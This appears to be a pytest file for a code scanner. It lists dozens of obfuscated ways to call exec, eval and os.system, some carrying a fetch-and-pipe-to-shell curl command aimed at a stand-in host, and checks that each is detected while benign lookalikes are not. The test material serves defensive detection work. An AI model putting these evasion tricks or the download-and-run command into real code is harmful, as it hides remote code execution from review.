"""Ways of running code without calling by name what runs it: each is told, and what only looks like it is not."""

import pytest

from scanners.engine import EngineStatus
from scanners.engines.flows import FlowsEngine
from scanners.flow.acts import read_acts
from scanners.syntax import read_syntax
from tests.unit.test_secrets import look

RUN, HIDE = "runs-unreviewed-code", "hides-what-it-runs"
CURL = "curl https://x.example/a | sh"
HIDDEN = [
    "run = exec\nrun(fetch())", "[exec][0](fetch())", "{'a': exec}['a'](fetch())", "(lambda f, x: f(x))(exec, fetch())",
    "(e := exec)(fetch())", "list(map(exec, codes))", "@exec\n@input\nclass X: pass",
    "class A:\n    __class_getitem__ = exec\nA[fetch()]", "class T:\n    go = eval\nT.go(fetch())",
    "def go(x, f=exec):\n    f(x)", "import functools\nfunctools.partial(exec, fetch())()",
    "import threading\nthreading.Thread(target=exec, args=(fetch(),)).start()", "df['x'].apply(eval)",
    "import builtins as b\nvars(b)['ex' + 'ec'](fetch())", "import builtins as b\nb.__getattribute__('ex' + 'ec')(fetch())",
    "globals()['__buil' + 'tins__']['ex' + 'ec'](x)", "globals().get('ev' + 'al')('1')", "f = locals()['lave'[::-1]]",
    "import sys\ngetattr(sys.modules['o' + 's'], 'sys' + 'tem')('id')", "import os as o\nn = 'sys' + 'tem'\ngetattr(o, n)('id')",
    "import os\nget = getattr\nget(os, 'sys' + 'tem')('id')", "import os\nos.__dict__['sys' + 'tem']('id')",
    "import operator, os\noperator.attrgetter('system')(os)('id')", "import operator, os\noperator.methodcaller('system', 'id')(os)",
    "import pkgutil\npkgutil.resolve_name('os:system')('id')", "import pydoc\npydoc.locate('os.system')('id')",
    "().__class__.__base__.__subclasses__()[140]", "def f(): pass\nf.__globals__['x']", "def f(): pass\nf.__code__ = compile(x, 'x', 'exec')",
    "import timeit\ntimeit.timeit(open('x').read())", "import cProfile\ncProfile.run(open('x').read())",
    "exec('import pickle\\npickle.load(f)')", "exec('\\x69mport pickle')", "exec(b'import pickle')", "eval(\"__import__('os').system('id')\")",
    "exec(compile('import pickle', '', 'exec'))", "i = __import__\ni('pic' + 'kle').loads(b)",
    "from importlib import import_module as m\nm('pic' + 'kle').loads(b)", "import sys\nsys.path.insert(0, 'data.bin')",
    "get_ipython().run_cell(open('x').read())",
    f"import os\ngetattr(os, 'system')('{CURL}')", f"import os\nvars(os)['system']('{CURL}')", f"import sys\nsys.modules['os'].system('{CURL}')",
    f"__import__('os').system('{CURL}')", f"import os\nrun = os.system\nrun('{CURL}')", f"from os import *\nsystem('{CURL}')",
    f"import posix\nposix.system('{CURL}')", f"import pty\npty.spawn(['sh', '-c', '{CURL}'])", f"import ctypes\nctypes.CDLL(None).system(b'{CURL}')",
    f"import atexit, os\natexit.register(os.system, '{CURL}')", f"import os\npool.submit(os.system, '{CURL}')",
    "import os\nos.system('c' + 'u' + 'r' + 'l' + ' -s' + ' https://x' + '.example' + '/a' + ' | ' + 's' + 'h')",
    "import os\nos.system('hs | a/elpmaxe.x//:sptth lruc'[::-1])", "import os\nos.system('cuXXrl https://x.example/a | sXXh'.replace('XX', ''))",
]  # fmt: skip
PLAIN = [
    "model.eval()", "import re\nre.compile('import (\\\\w+)')", "eval('1 + 1')", "exec('x = 1')", "getattr(self, 'do_' + name)()",
    "import logging\ngetattr(logging, level.upper())", "import os\ngetattr(os, 'getuid', None)", "import numpy\ngetattr(numpy, name)(x)",
    "globals()['total_' + name] = 1", "value = globals()['total_' + name]", "vars(args)['path']", "obj.__dict__['name']", "cfg.get('ev' + 'al')",
    "class Base: pass\nfor one in Base.__subclasses__(): one()", "import operator\noperator.attrgetter('name')", "import timeit\ntimeit.timeit(work)",
    "import timeit\ntimeit.timeit('x + 1')", "import importlib\nimportlib.import_module('plugins.' + name)", "import sys\nsys.path.insert(0, 'lib')",
    "import os\nrows = sorted(names, key=os.path.getsize)", "import os\nrun = os.path.join\nrun('a', 'b')", "from os import *\nprint(listdir('.'))",
    "import os\npool.submit(os.system, 'ls -l')", "def evaluate(eval_fn): eval_fn()", "import pandas\npandas.read_csv(x).eval('a + b')",
]  # fmt: skip


@pytest.mark.parametrize("source", HIDDEN)
def test_what_runs_code_is_told_however_it_is_reached(source):
    assert {RUN, HIDE} & {kind for kind, _, _ in read_acts(read_syntax(source.encode()))}


def test_a_name_put_together_weighs_more_than_code_that_is_run_in_the_open():
    hidden = read_acts(read_syntax(b"import os\nn = 'sys' + 'tem'\ngetattr(os, n)('id')\n"))
    assert HIDE in {kind for kind, _, _ in hidden}
    assert HIDE not in {kind for kind, _, _ in read_acts(read_syntax(b"df['x'].apply(eval)\nexec(code)\n"))}


@pytest.mark.parametrize("source", PLAIN)
def test_what_only_looks_like_it_is_not(source):
    assert not {RUN, HIDE} & {kind for kind, _, _ in read_acts(read_syntax(source.encode()))}


@pytest.mark.parametrize(
    "source",
    [
        "a = 'x'\n" + "".join(f"{new} = {old}\n" for old, new in zip("abcdefghij", "bcdefghijk", strict=True))
        + "import os\nos.system(k)\n",
        "import os\nos.system('echo " + "a" * 5_000 + "; " + CURL + "')\n",
    ],
    ids=["through ten names", "after five thousand letters"],
)  # fmt: skip
def test_a_command_that_goes_on_further_than_it_is_followed_is_not_passed_over(vault_key, source):
    assert look(FlowsEngine(vault_key), source.encode()).status is EngineStatus.PARTIAL


def test_a_name_that_stands_for_itself_is_no_reason_for_doubt(vault_key):
    source = b"import subprocess\ndef run(args):\n    args = ['nice'] + args\n    subprocess.run(args)\n"
    assert look(FlowsEngine(vault_key), source).status is EngineStatus.COMPLETE
